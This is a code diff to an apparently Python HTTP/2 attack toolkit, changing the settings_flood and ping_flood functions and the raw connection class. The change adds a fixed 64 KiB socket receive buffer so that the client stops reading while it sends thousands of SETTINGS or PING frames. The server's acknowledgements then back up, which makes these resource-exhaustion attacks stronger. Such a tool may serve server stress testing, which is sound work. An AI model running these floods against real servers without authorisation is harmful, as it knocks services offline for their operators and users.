@@ -111,12 +111,20 @@ class RawConnection:
     """One HTTP/2 connection driven by hand in one thread: send bytes, poll for frames."""
 
     def __init__(self, host, port, tls=None, server_hostname=None, authority=None, timeout=10,
-                 settings=None, result=None):
+                 settings=None, result=None, rcvbuf=None):
         self.result = result or AttackResult("raw")
         self.t0 = time.monotonic()
         self.deadline = self.t0 + timeout
         self.tls = _tls_context(tls)
-        sock = socket.create_connection((host, port), timeout=min(timeout, 10))
+        if rcvbuf:
+            # a fixed receive buffer (set before connecting, which turns off the kernel's
+            # autotuning, here up to 32 MiB): a client that does not read stops taking bytes soon
+            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
+            sock.settimeout(min(timeout, 10))
+            sock.connect((host, port))
+        else:
+            sock = socket.create_connection((host, port), timeout=min(timeout, 10))
         sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         if self.tls:
             sock = self.tls.wrap_socket(sock, server_hostname=server_hostname or host)
@@ -264,10 +272,10 @@ class RawConnection:
         return self.result
 
 
-def _open(name, host, port, tls, server_hostname, authority, timeout, settings=None):
+def _open(name, host, port, tls, server_hostname, authority, timeout, settings=None, rcvbuf=None):
     result = AttackResult(name)
     conn = RawConnection(host, port, tls=tls, server_hostname=server_hostname, authority=authority,
-                         timeout=timeout, settings=settings, result=result)
+                         timeout=timeout, settings=settings, result=result, rcvbuf=rcvbuf)
     conn.poll(0.1)  # the server's SETTINGS (acknowledged)
     return conn
 
@@ -351,10 +359,10 @@ def big_header_list(host, port, *, size=1 << 20, value_size=4096, path="/", meth
 def settings_flood(host, port, *, n=5000, settings=None, tls=None, server_hostname=None, authority=None,
                    drain=1.0, timeout=15):
     """n SETTINGS frames (default each sets ENABLE_PUSH=0) written without reading anything, so
-    the server's ACKs pile up on its side; then reads. send_error "timeout" means the server
-    stopped reading. detail: settings_frames_sent."""
+    the server's ACKs pile up on its side (a 64 KiB receive buffer); then reads. send_error
+    "timeout" means the server stopped reading. detail: settings_frames_sent."""
     c = RawConnection(host, port, tls=tls, server_hostname=server_hostname, authority=authority,
-                      timeout=timeout, result=AttackResult("settings_flood"))
+                      timeout=timeout, result=AttackResult("settings_flood"), rcvbuf=64 * 1024)
     frame = SettingsFrame(0, settings=settings or {SettingsFrame.ENABLE_PUSH: 0}).serialize()
     sent = 0
     while sent < n:
@@ -369,9 +377,10 @@ def settings_flood(host, port, *, n=5000, settings=None, tls=None, server_hostna
 
 def ping_flood(host, port, *, n=5000, read_while_sending=False, tls=None, server_hostname=None,
                authority=None, drain=1.0, timeout=15):
-    """n PING frames (8 bytes of opaque data each); reads while sending only if asked.
-    ping_acks counts the answers. detail: pings_sent."""
-    c = _open("ping_flood", host, port, tls, server_hostname, authority, timeout)
+    """n PING frames (8 bytes of opaque data each); reads while sending only if asked (if not,
+    with a 64 KiB receive buffer). ping_acks counts the answers. detail: pings_sent."""
+    c = _open("ping_flood", host, port, tls, server_hostname, authority, timeout,
+              rcvbuf=None if read_while_sending else 64 * 1024)
     sent = 0
     while sent < n:
         k = min(100, n - sent)
